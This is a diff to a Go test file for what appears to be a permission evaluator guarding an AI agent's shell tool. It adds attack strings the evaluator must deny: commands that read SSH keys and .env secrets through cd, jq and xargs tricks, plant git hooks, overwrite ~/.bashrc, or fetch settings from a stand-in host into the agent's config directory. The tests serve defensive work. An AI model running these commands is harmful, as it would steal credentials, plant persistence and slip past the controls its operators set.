@@ -70,7 +70,8 @@ func TestAttackReadDenyCommands(t *testing.T) {
 		"PWD=" + e.home + "; cd .ssh && cat id_rsa", "OLDPWD=" + e.home + "/.ssh; cd -; cat id_rsa",
 		"cd " + e.home + "/.ssh; cd /tmp; cd -; cat id_rsa", "export HOME=" + e.home + "/.ssh; cat ~/id_rsa",
 		"xargs -a .env echo", "xargs --arg-file=.env echo", "git -C ~/.ssh diff --no-index id_rsa /dev/null",
-		"git -C secrets show HEAD:key", "tar -C ~/.ssh -cf /tmp/x.tar id_rsa",
+		"git -C secrets show HEAD:key", "tar -C ~/.ssh -cf /tmp/x.tar id_rsa", "jq --rawfile s .env -n '$s'",
+		"jq --arg n x '.[$n]' .env", "shopt -s cdable_vars; x=" + e.home + "/.ssh; cd x; cat id_rsa",
 	} {
 		for _, ev := range evs {
 			if d := ev.Evaluate(Request{Tool: "Bash", Input: input(t, "command", cmd), Cwd: e.project}); d.Behavior == Allow {
@@ -161,6 +162,7 @@ func TestAttackProtectedCommands(t *testing.T) {
 		"git config --global alias.x '!sh'", "cd .git && touch hooks/x", "cd .git/hooks; cp /tmp/x pre-commit",
 		"cp x .GIT/hooks/pre-commit", "tar -xf a.tar -C .git", "cp x \"$D\"", "ls | xargs -I{} cp {} .git/hooks/",
 		"curl -o .git/hooks/pre-commit x", "wget -O ~/.bashrc x", "cd .claude && curl -O https://h/settings.json",
+		"tar -xf a.tar .git/hooks/pre-commit", "tar -xf a.tar -C .claude settings.json",
 	}
 	for _, mode := range []Mode{ModeDefault, ModeAcceptEdits, ModeDontAsk} {
 		ev := e.evaluator(t, mode, layers...)
@@ -296,7 +298,7 @@ var everyday = []string{
 	"find . -name '*.go' | xargs wc -l", "env LC_ALL=C sort a.txt", "timeout 10 grep -rn foo src",
 	"nice -n 10 find . -name '*.tmp'", "base64 a.txt", "stat a.txt", "file a.txt", "du -sh src",
 	"sed ':a;N;$!ba;s/\\n/ /g' a.txt", "awk '{ n++ } END { print n / 2 }' a.txt", "env LANG=C.UTF-8 grep -c x a.txt",
-	"awk 'BEGIN { if (x > 1) print \"big\" }'", "less +/foo a.txt",
+	"awk 'BEGIN { if (x > 1) print \"big\" }'", "less +/foo a.txt", "jq --arg n x '.[$n]' a.txt",
 }
 
 // stdinFed are everyday commands whose files come from xargs: with a Read deny rule
